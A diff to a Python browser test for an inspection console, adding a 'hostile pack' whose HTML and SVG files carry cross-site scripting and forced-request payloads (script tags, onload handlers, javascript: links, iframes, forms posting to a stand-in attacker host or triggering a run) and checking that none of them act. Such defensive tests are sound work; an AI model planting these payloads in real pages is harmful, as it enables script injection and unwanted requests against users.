@@ -1,6 +1,7 @@
 """The console in a real browser: every page in both languages and lights, and nothing of the target runs."""
 
 import http.server
+import shutil
 import threading
 from collections.abc import Callable, Iterator
 from datetime import timedelta
@@ -148,8 +149,13 @@ def test_every_page_in_both_languages_and_nothing_of_the_target_runs(
         _report(page, address, two_packs[1])
         _hostile_files(page, address, two_packs[1], evil)
         _decides(page, address, two_packs[1].name)
+        name = two_packs[1].name
+        with filled.session() as db:
+            history.inspection(db, name).pack = str(_hostile_pack(two_packs[1], tmp_path / "hostile", name, evil))
+        _nothing_of_it_acts(context.new_page(), f"{address}/inspections/{name}/files/data/derived")
         browser.close()
     assert heard == []
+    assert b"downloaded" not in (filled.folder / NAME).read_bytes()
     assert told == []
     strange = [one for one in seen if not one.startswith((address, "data:", "console Failed to load resource"))]
     assert strange == []
@@ -176,6 +182,40 @@ def _hostile_files(page: Page, address: str, pack: Path, evil: str) -> None:
     assert page.evaluate("document.contentType") == "text/plain"
     assert page.evaluate("window.origin") == "null"
     assert evil
+
+
+def _hostile_pack(pack: Path, into: Path, name: str, evil: str) -> Path:
+    """A pack whose report, drawings and pictures were written by somebody else, so that they act where they can."""
+    own, derived = f"/inspections/{name}", into / "data/derived"
+    page = (
+        f"<!doctype html><base href='{evil}/'><meta http-equiv=refresh content='0;url={evil}/meta'>"
+        f"<style>@import '{evil}/import'; body {{background: url({evil}/css)}} h1 {{background: url({own}/pack.zip)}}"
+        f"</style><script>fetch('{evil}/script')</script><link rel=stylesheet href='{evil}/link'><h1>x</h1>"
+        f"<body onload=\"fetch('{evil}/onload')\"><img src='{evil}/img'><img src='{own}/pack.zip'>"
+        f"<iframe src='{evil}/frame'></iframe><iframe srcdoc=\"<script>fetch('{evil}/srcdoc')</script>\"></iframe>"
+        f"<object data='{evil}/object'></object><video src='{evil}/video'></video>"
+        f"<form action='{evil}/form' method=post><button>send</button></form>"
+        f"<form action='/targets/1/run' method=post><button>run</button></form>"
+        f"<a href=\"javascript:fetch('{evil}/javascript')\">act</a><a target=_blank href='{evil}/blank'>open</a>"
+    )
+    drawing = (
+        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{evil}/svg')\">"
+        f"<script>fetch('{evil}/in-svg')</script><image href='{evil}/image'/><foreignObject>"
+        f"<iframe xmlns='http://www.w3.org/1999/xhtml' src='{evil}/inner'/></foreignObject></svg>"
+    )
+    shutil.copytree(pack, into)
+    for place, text in (("report.html", page), ("timeline.svg", drawing), ("picture.png", page), ("list.csv", page)):
+        (derived / place).write_text(text, encoding="utf-8")
+    return into
+
+
+def _nothing_of_it_acts(page: Page, derived: str) -> None:
+    for place in ("timeline.svg", "picture.png", "list.csv", "report.html"):
+        page.goto(f"{derived}/{place}")
+    for name in ("send", "run", "act", "open"):
+        page.get_by_text(name, exact=True).click()
+    assert page.url.endswith("report.html")
+    assert len(page.context.pages) == 2
 
 
 def _decides(page: Page, address: str, name: str) -> None:
